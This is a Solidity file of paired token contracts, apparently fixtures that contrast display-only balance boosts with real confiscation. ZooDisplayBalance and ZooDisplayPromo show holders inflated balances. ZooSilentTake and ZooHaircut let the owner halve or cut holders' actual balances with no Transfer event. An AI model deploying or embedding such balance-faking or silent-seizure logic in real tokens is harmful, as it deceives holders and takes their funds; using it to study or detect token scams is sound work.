// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ZooPooledToken} from "./ZooBase.sol";

// Balances that fall with nothing moving: shown and not held, or written down for real.

/// Every holder but the pools and the deployer is shown a quarter more than it holds (a bonus that
/// exists only in balanceOf) from the first tokens it receives until the owner reveals its
/// account; transfers move only what is held. Revealing shows the real balance and takes nothing:
/// what the holder can send stays the same.
contract ZooDisplayBalance is ZooPooledToken {
    mapping(address => bool) public boosted;

    constructor(string memory name_, string memory symbol_, uint256 supply, address factory, address[] memory quotes)
        ZooPooledToken(name_, symbol_, supply, factory, quotes)
    {}

    function balanceOf(address account) public view override returns (uint256) {
        uint256 held = _balances[account];
        return boosted[account] ? held + held / 4 : held;
    }

    function reveal(address account) external onlyOwner {
        boosted[account] = false;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_isTrade(from, to) && !isPool[to]) boosted[to] = true;
        _move(from, to, value);
    }
}

/// The look-alike that takes: reveal() halves what the holder holds, with no Transfer and no one
/// credited (the supply still counts the lost half). The holder can send less than before.
contract ZooSilentTake is ZooPooledToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address factory, address[] memory quotes)
        ZooPooledToken(name_, symbol_, supply, factory, quotes)
    {}

    function reveal(address account) external onlyOwner {
        _balances[account] /= 2;
    }
}

/// While the launch promotion runs, every holder but the pools and the deployer is shown a fifth more
/// than it holds (in balanceOf only; transfers move what is held). The owner's endPromotion() shows
/// every balance as held: the balances shown fall at once, nothing moves, and what each holder can
/// send stays the same.
contract ZooDisplayPromo is ZooPooledToken {
    bool public promotion = true;

    constructor(string memory name_, string memory symbol_, uint256 supply, address factory, address[] memory quotes)
        ZooPooledToken(name_, symbol_, supply, factory, quotes)
    {}

    function balanceOf(address account) public view override returns (uint256) {
        uint256 held = _balances[account];
        return promotion && !isPool[account] && account != _exempt ? held + held / 5 : held;
    }

    function endPromotion() external onlyOwner {
        promotion = false;
    }
}

/// The look-alike that takes: haircut() cuts what every holder but the pools and the deployer holds by
/// a fifth, with no Transfer and no one credited (the supply still counts the cut). Each holder can
/// send less than before.
contract ZooHaircut is ZooPooledToken {
    address[] private _holders;
    mapping(address => bool) private _known;

    constructor(string memory name_, string memory symbol_, uint256 supply, address factory, address[] memory quotes)
        ZooPooledToken(name_, symbol_, supply, factory, quotes)
    {}

    function haircut() external onlyOwner {
        for (uint256 i = 0; i < _holders.length; i++) {
            address h = _holders[i];
            if (!isPool[h] && h != _exempt) _balances[h] -= _balances[h] / 5;
        }
    }

    function _update(address from, address to, uint256 value) internal override {
        if (!_known[to]) {
            _known[to] = true;
            _holders.push(to);
        }
        _move(from, to, value);
    }
}
